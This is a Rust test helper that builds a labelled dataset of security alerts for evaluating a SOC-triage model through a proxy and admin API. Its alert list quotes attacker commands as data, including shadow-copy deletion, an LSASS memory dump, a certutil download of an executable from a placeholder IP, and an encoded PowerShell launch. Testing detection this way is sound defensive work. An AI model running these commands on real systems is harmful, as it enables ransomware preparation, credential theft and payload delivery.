//! A labelled dataset for the evaluation tests: alerts asked through the
//! proxy of the `large` version, each conversation labelled by an analyst
//! over the review API (with the large model's verdict, except a few the
//! analyst corrects), and the snapshot written with `store.insert_dataset`
//! (the datasets admin API is not in this tree yet). A small webhook
//! receiver stands in for Slack.

use crate::helpers::*;
use axum::extract::State;
use axum::http::StatusCode;
use axum::routing::post;
use flywheel::store::DatasetRecord;
use serde_json::{Value, json};
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

pub const SYSTEM: &str = "You are a SOC analyst. State the threat type and severity.";

/// Small and large models know different indicators, so their verdicts
/// differ on some of these.
pub const ALERTS: &[&str] = &[
    "vssadmin delete shadows /all /quiet run by svc-backup.exe on FS-01",
    "Files renamed after an encrypt routine; rstrtmgr.dll loaded by invoice.exe",
    "User opened an attachment in Outlook and enabled a macro",
    "ISO file mounted from an email; mark-of-the-web bypassed on WS-17",
    "rclone copied \\\\fs01\\finance to a remote named backup",
    "Large upload to mega.nz over ftp from LAPTOP-9",
    "LSASS memory dumped by rundll32.exe via comsvcs.dll MiniDump on WS-042",
    "bcdedit /set recoveryenabled no run on SRV-DB-2",
    "A wiper binary was dropped in C:\\Windows\\Temp",
    "certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe",
    "PsExec service installed remotely on SRV-APP-3",
    "Scheduled task created to run updater.exe at every logon",
    "whoami /all and net group \"domain admins\" run by a help-desk account",
    "powershell -enc SQBFAFgA run from winword.exe",
];

/// Conversations the analyst labels otherwise than the large model said.
const CORRECTED: &[usize] = &[3, 9];
/// The first this many go to the train split, the rest are held out.
pub const TRAIN: usize = 4;

pub struct Labelled {
    pub dataset_id: String,
    pub conversation_ids: Vec<String>,
}

fn field(answer: &str, name: &str) -> String {
    answer
        .lines()
        .find_map(|l| l.strip_prefix(name))
        .map(|v| v.trim().to_string())
        .unwrap_or_else(|| panic!("no `{name}` in {answer}"))
}

async fn ask_large(app: &TestApp, alert: &str) -> (String, String, String) {
    let response = app
        .http
        .post(app.url("/v1/chat/completions"))
        .bearer_auth(&app.analyst_key)
        .header("x-flywheel-variant", "large")
        .json(&json!({"model": "triage", "messages": [
            {"role": "system", "content": SYSTEM},
            {"role": "user", "content": alert},
        ]}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let id = response.headers()["x-flywheel-conversation-id"]
        .to_str()
        .unwrap()
        .to_string();
    let body: Value = response.json().await.unwrap();
    let answer = body["choices"][0]["message"]["content"].as_str().unwrap();
    (
        id,
        field(answer, "Threat type:"),
        field(answer, "Severity:"),
    )
}

pub async fn admin(
    app: &TestApp,
    method: reqwest::Method,
    path: &str,
    body: Option<Value>,
) -> reqwest::Response {
    let request = app
        .http
        .request(method, app.url(path))
        .bearer_auth(ADMIN_TOKEN);
    let request = match body {
        Some(b) => request.json(&b),
        None => request,
    };
    request.send().await.unwrap()
}

async fn label(app: &TestApp, id: &str, threat_type: &str, severity: &str) {
    for _ in 0..200 {
        let response = admin(
            app,
            reqwest::Method::PATCH,
            &format!("/admin/api/conversations/{id}"),
            Some(json!({"threat_type": threat_type, "severity": severity, "status": "approved"})),
        )
        .await;
        if response.status() == 200 {
            return;
        }
        // Capture is off the hot path: the conversation appears shortly.
        assert_eq!(response.status(), 404);
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    panic!("conversation {id} was never captured");
}

fn line(alert: &str, target: &str) -> String {
    json!({"messages": [
        {"role": "system", "content": SYSTEM},
        {"role": "user", "content": alert},
        {"role": "assistant", "content": target},
    ]})
    .to_string()
}

/// Asks, labels and snapshots [`ALERTS`]. Every target in the files says
/// `benign`/`low`, which no review label is: a score read from the
/// targets instead of the reviews would show at once.
pub async fn labelled_dataset(app: &TestApp) -> Labelled {
    let mut ids = Vec::new();
    let mut lines = Vec::new();
    for (i, alert) in ALERTS.iter().enumerate() {
        let (id, threat, severity) = ask_large(app, alert).await;
        let (threat, severity) = if CORRECTED.contains(&i) {
            let other = if threat == "execution" {
                "discovery"
            } else {
                "execution"
            };
            (other.to_string(), "critical".to_string())
        } else {
            (threat, severity)
        };
        label(app, &id, &threat, &severity).await;
        lines.push(line(alert, "Threat type: benign\nSeverity: low"));
        ids.push(id);
    }
    let record = DatasetRecord {
        id: flywheel::ids::new_id("ds"),
        name: "evaluation fixture".into(),
        format: "sft".into(),
        created_at: flywheel::ids::now_rfc3339(),
        created_by: "test".into(),
        filter: json!({"status": "approved"}),
        alias: Some("triage".into()),
        base_model: Some("gpt-4o-mini".into()),
        validation_split: 0.7,
        report: json!({"ready_for_training": true}),
        train_ids: ids[..TRAIN].to_vec(),
        validation_ids: ids[TRAIN..].to_vec(),
    };
    let file = |part: &[String]| format!("{}\n", part.join("\n")).into_bytes();
    app.state
        .store
        .insert_dataset(&record, &file(&lines[..TRAIN]), &file(&lines[TRAIN..]))
        .unwrap();
    Labelled {
        dataset_id: record.id,
        conversation_ids: ids,
    }
}

/// Queues a run and waits for it to end; returns the run.
pub async fn evaluate(app: &TestApp, dataset_id: &str, versions: &[&str]) -> Value {
    let response = admin(
        app,
        reqwest::Method::POST,
        "/admin/api/evaluations",
        Some(json!({"alias": "triage", "versions": versions, "dataset_id": dataset_id, "split": "validation"})),
    )
    .await;
    assert_eq!(response.status(), 202);
    let queued: Value = response.json().await.unwrap();
    assert!(queued["id"].as_str().unwrap().starts_with("eval_"));
    assert!(matches!(
        queued["status"].as_str(),
        Some("queued" | "running")
    ));
    finished(app, queued["id"].as_str().unwrap()).await
}

pub async fn run_of(app: &TestApp, id: &str) -> Value {
    let response = admin(
        app,
        reqwest::Method::GET,
        &format!("/admin/api/evaluations/{id}"),
        None,
    )
    .await;
    assert_eq!(response.status(), 200);
    response.json().await.unwrap()
}

pub async fn finished(app: &TestApp, id: &str) -> Value {
    for _ in 0..600 {
        let run = run_of(app, id).await;
        if matches!(run["status"].as_str(), Some("succeeded" | "failed")) {
            return run;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("evaluation {id} did not finish");
}

/// Records every POST body; answers with `status`.
#[derive(Clone)]
pub struct Receiver {
    pub bodies: Arc<Mutex<Vec<Value>>>,
    status: StatusCode,
}

pub async fn webhook_receiver(status: StatusCode) -> (SocketAddr, Receiver) {
    let receiver = Receiver {
        bodies: Arc::default(),
        status,
    };
    let router = axum::Router::new()
        .route(
            "/hook",
            post(
                |State(r): State<Receiver>, body: axum::Json<Value>| async move {
                    r.bodies.lock().unwrap().push(body.0);
                    r.status
                },
            ),
        )
        .with_state(receiver.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, router).await });
    (addr, receiver)
}
